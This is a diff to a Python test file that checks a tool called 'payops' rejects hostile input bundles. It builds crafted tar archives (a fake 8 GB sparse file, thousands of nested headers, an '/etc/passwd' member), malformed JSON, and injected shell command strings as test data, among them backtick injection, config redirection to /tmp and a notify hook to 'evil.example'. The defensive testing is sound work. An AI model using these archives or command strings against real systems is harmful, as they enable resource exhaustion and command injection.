@@ -6,6 +6,7 @@ import gzip
 import hashlib
 import io
 import json
+import math
 import tarfile
 from collections.abc import Mapping
 from dataclasses import replace
@@ -13,6 +14,7 @@ from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
+import msgspec
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
@@ -181,6 +183,25 @@ def linked(kind: bytes) -> bytes:
     return found.getvalue()
 
 
+def sparse() -> bytes:
+    """A file that says it is 8 GB long, of which no byte is stored."""
+    member = tarfile.TarInfo("observation.json")
+    member.type = tarfile.GNUTYPE_SPARSE
+    block = bytearray(member.tobuf(tarfile.GNU_FORMAT))
+    block[386:482] = b"0" * 11 + b"\0" + b"0" * 11 + b"\0" + b"\0" * 72
+    block[483:495] = b"7" * 11 + b"\0"
+    block[148:156] = b" " * 8
+    block[148:156] = b"%06o\0 " % sum(block)
+    return gzip.compress(bytes(block) + bytes(1024))
+
+
+def nested(kind: bytes) -> bytes:
+    """Headers that each say something of the next one."""
+    member = tarfile.TarInfo("x")
+    member.type, member.size = kind, 6
+    return gzip.compress((member.tobuf() + b"6 a=b\n" + bytes(506)) * 5_000)
+
+
 def changed(**keys: Any) -> bytes:
     return json.dumps({**as_plain(SEEN), **keys}).encode()
 
@@ -202,7 +223,13 @@ def changed(**keys: Any) -> bytes:
         (packed({"observation.json": GOOD, "/etc/passwd": b"x"}), "which no bundle does"),
         (linked(tarfile.SYMTYPE), "which no bundle does"),
         (linked(tarfile.LNKTYPE), "which no bundle does"),
+        (sparse(), "which no bundle does"),
+        (nested(tarfile.XHDTYPE), "which no bundle does"),
+        (nested(tarfile.XGLTYPE), "which no bundle does"),
+        (nested(tarfile.GNUTYPE_LONGNAME), "which no bundle does"),
         (packed({"observation.json": b"{"}), "no JSON"),
+        (packed({"observation.json": b'{"as_of": NaN}'}), "no JSON"),
+        (packed({"observation.json": b'{"as_of": 1e999}'}), "no JSON"),
         (packed({"observation.json": b"[" * 100_000}), "no JSON"),
         (packed({"observation.json": b"[]"}), "no object"),
         (packed({"observation.json": b"{}"}), "is not what payops saw"),
@@ -254,6 +281,13 @@ def test_any_bytes_are_refused_calmly(content: bytes) -> None:
         "payops health > /etc/passwd",
         "payops health\nid",
         "payops health `id`",
+        "payops --config /tmp/theirs.yaml health",
+        "payops health --config=/tmp/theirs.yaml",
+        "payops health {--config,/tmp/theirs.yaml}",
+        "payops health --notify json://evil.example",
+        "payops circuit reset stripe -y",
+        "payops apply theirs.json --yes --environment production",
+        "payops health 'not closed",
     ],
 )
 def test_no_file_makes_anybody_paste_another_command(command: str) -> None:
@@ -261,6 +295,22 @@ def test_no_file_makes_anybody_paste_another_command(command: str) -> None:
     seen = from_plain(as_plain(look(bad)))
     assert [one.actions for one in seen.observation.checks] == [(Action("Do it"),)]
     assert command not in json.loads(as_json(seen))["next"]
+
+
+def test_no_name_becomes_an_option() -> None:
+    names = {"breaker": ("--yes",)}
+    seen = from_plain(as_plain(replace(SEEN, around=replace(AROUND, names=names))))
+    told = json.loads(as_json(seen))
+    assert told["next"]
+    assert "--yes" not in json.dumps(told["next"])
+
+
+def test_numbers_and_characters_that_no_json_has() -> None:
+    odd = replace(check("own.odd", Status.CRIT, "half \ud83d"), measured={"a": math.nan, "b": 1.5})
+    plain = msgspec.json.decode(json.dumps(as_plain(look(odd)), allow_nan=False))
+    (back,) = from_plain(plain).observation.checks
+    assert back.measured == {"a": None, "b": 1.5}
+    assert back.summary == "half \\ud83d"
 
 
 def test_our_own_commands_stay() -> None:
